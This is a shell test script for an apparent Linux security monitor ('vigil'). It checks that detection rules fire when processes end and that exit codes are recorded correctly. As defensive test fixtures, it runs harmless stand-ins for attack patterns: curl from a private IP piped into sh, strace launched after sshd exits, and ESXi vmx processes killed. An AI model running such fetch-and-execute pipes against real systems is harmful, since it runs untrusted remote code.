#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# Issue 14: process end events with process.exit_code
# (Documentation/fields.rst).  Three corpus rules
# (process_end.rules-from), unmodified, fire on processes uid 65534 runs
# and ends; the look-alikes stay silent; and exit codes read as a
# shell's $? (the status, or 128 plus the signal).  The programs are
# copies of dash (and of true, for curl) under the names the rules look
# for.
. /vigil/lib.sh
STRACE=9eaa3fb1-3f70-48ed-bb0e-d7ae4d3c8f28	# sshd ends, then strace starts
ESXI=6641a5af-fb7e-487a-adc4-9e6503365318	# vmx ends under "kill"
CURLSH=3ebdc01e-7788-4845-8e7a-c8a671ad46ea	# curl piped to a shell that ends
CODE=vigil-test-end-exit-code

require_rules $STRACE $ESXI $CURLSH $CODE

E=/tmp/end
mkdir -p $E
for n in sshd strace kill vmx endcode; do cp /usr/bin/dash $E/$n; done
cp /usr/bin/true $E/curl
chmod -R 755 $E

# Look-alikes: strace before any sshd ended; vmx under a shell.
as_nobody $E/strace -c true
as_nobody sh -c "$E/vmx -c true; true"
as_nobody sh -c "cd /tmp && $E/curl http://127.0.0.1/x | sh"	# local
as_nobody sh -c "cd /tmp && $E/curl http://10.1.2.3/x | sh /dev/stdin" # 2 args
# Attacks.
as_nobody sh -c "cd /tmp && $E/curl http://10.1.2.3/x | sh"	# CURLSH
as_nobody $E/sshd -c "exit 3"
as_nobody $E/strace -c true			# STRACE
as_nobody $E/kill -c "$E/vmx -c 'exit 0'; true"	# ESXI
# Exit codes.
as_nobody $E/endcode -c "exit 7"
as_nobody $E/endcode -c 'kill -9 $$'
as_nobody $E/endcode -c true

vigil_rc=0
expect_alerts $STRACE 1 "sshd ends, then strace starts"
expect_alerts $ESXI 1 "vmx ends under kill"
expect_alerts $CURLSH 1 "curl piped to sh, which ends"
expect_alerts $CODE 3 "three processes named endcode end"

t=$(jq -c "select(.rule.id == \"$CODE\") | .process.exit_code" "$VIGIL_ALERTS" |
	tr '\n' ' ')
[ "$t" = "7 137 0 " ] && pass "exit codes as the shell shows them: $t" ||
	fail "exit codes: $t (want 7 137 0)"
t=$(jq -c "select(.rule.id == \"$CODE\") | [.event.category, .event.type,
	.event.action, .process.name, .process.executable, .user.id,
	.process.parent.name]" "$VIGIL_ALERTS" | head -n 1)
[ "$t" = "[\"process\",\"end\",\"end\",\"endcode\",\"$E/endcode\",\"65534\",\"sh\"]" ] &&
	pass "an end event names the process from its entry: $t" ||
	fail "end fields: $t"
n=$(cat /sys/kernel/vigil/stats/events_end)
[ "$n" -ge 9 ] && pass "events_end $n" || fail "events_end $n (>= 9)"
# The ends no rule names (true, the shells, strace) were not built past
# their name and exit code; the sshd, vmx and endcode ones were.
d=$(cat /sys/kernel/vigil/stats/events_decided_early)
[ "$d" -ge 1 ] && [ "$d" -le $((n - 5)) ] &&
	pass "events_decided_early $d of $n ends" ||
	fail "events_decided_early $d (>= 1, <= $((n - 5)))"
exit $vigil_rc
